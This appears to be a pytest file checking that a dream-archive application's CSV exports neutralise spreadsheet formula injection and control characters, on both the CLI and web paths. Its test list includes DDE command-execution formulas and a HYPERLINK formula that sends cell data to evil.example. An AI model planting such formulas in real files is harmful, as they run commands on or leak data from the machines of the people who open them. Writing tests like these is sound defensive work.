"""CSV exports are safe to open in a spreadsheet: no formulas, no control bytes, on every path."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from dreamdraw.archive import Archive, create_app, export_records
from dreamdraw.archive.spreadsheet import spreadsheet_cell
from fastapi.testclient import TestClient

from tests.archive.archive_samples import add_dream

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?q="&A1, "click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
CONTROL = "bell\x07 nul\x00 esc\x1b[31m red del\x7f c1\x9b end"


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _cli_csv(archive: Archive, tmp_path: Path) -> list[dict[str, str]]:
    export_records(archive, "csv", tmp_path / "out")
    return _cells((tmp_path / "out" / "records.csv").read_text(encoding="utf-8"))


def _web_csv_text(archive: Archive) -> str:
    archive.add_curator("ann", "correct horse battery")
    client = TestClient(create_app(archive, secret="s"), base_url="https://testserver")
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text)[1]
    client.post("/login", data={"name": "ann", "password": "correct horse battery",
                                "csrf_token": token})  # fmt: skip
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/").text)[1]
    response = client.post("/export", data={"format": "csv", "csrf_token": token})
    assert response.status_code == 200
    return response.text


def _web_csv(archive: Archive) -> list[dict[str, str]]:
    return _cells(_web_csv_text(archive))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_quoted_as_text(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["a whale over Berlin", "3 birds", "", "x=1", "sea;-1"])
def test_a_plain_cell_is_written_unchanged(text: str) -> None:
    assert spreadsheet_cell(text) == text


def test_control_characters_become_visible_symbols() -> None:
    cell = spreadsheet_cell(CONTROL)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", cell)
    assert cell == "bell\u2407 nul\u2400 esc\u241b[31m red del\u2421 c1\ufffd end"


def test_line_breaks_inside_a_dream_stay_line_breaks() -> None:
    assert spreadsheet_cell("first line\nsecond\r\nthird") == "first line\nsecond\r\nthird"


@pytest.mark.parametrize("path", ["cli", "web"])
def test_no_exported_csv_cell_starts_a_formula(
    sqlite_archive: Archive, tmp_path: Path, path: str
) -> None:
    for n, text in enumerate(FORMULAS):
        add_dream(sqlite_archive, text, seed=n, venue=text)
    rows = _cli_csv(sqlite_archive, tmp_path) if path == "cli" else _web_csv(sqlite_archive)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for name in ("dream", "english", "prompt", "venue"):
            assert row[name].startswith("'"), (name, row[name])
            assert row[name][1] in "=+-@\t\r\n"


@pytest.mark.parametrize("path", ["cli", "web"])
def test_no_exported_csv_holds_control_bytes(
    sqlite_archive: Archive, tmp_path: Path, path: str
) -> None:
    add_dream(sqlite_archive, CONTROL)
    rows = _cli_csv(sqlite_archive, tmp_path) if path == "cli" else _web_csv(sqlite_archive)
    assert rows[0]["dream"] == spreadsheet_cell(CONTROL)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", "".join(rows[0].values()))


@pytest.mark.parametrize("path", ["cli", "web"])
def test_every_text_field_is_quoted_so_a_semicolon_cannot_split_a_cell(
    sqlite_archive: Archive, tmp_path: Path, path: str
) -> None:
    add_dream(sqlite_archive, "sea;=1+1")
    if path == "cli":
        export_records(sqlite_archive, "csv", tmp_path / "out")
        text = (tmp_path / "out" / "records.csv").read_text(encoding="utf-8")
    else:
        text = _web_csv_text(sqlite_archive)
    assert '"sea;=1+1"' in text


def test_the_csv_datasheet_says_how_cells_were_made_safe(
    sqlite_archive: Archive, tmp_path: Path
) -> None:
    add_dream(sqlite_archive, "=1+1")
    export_records(sqlite_archive, "csv", tmp_path / "out")
    datasheet = (tmp_path / "out" / "DATASHEET.md").read_text(encoding="utf-8")
    assert "begins with an apostrophe" in datasheet
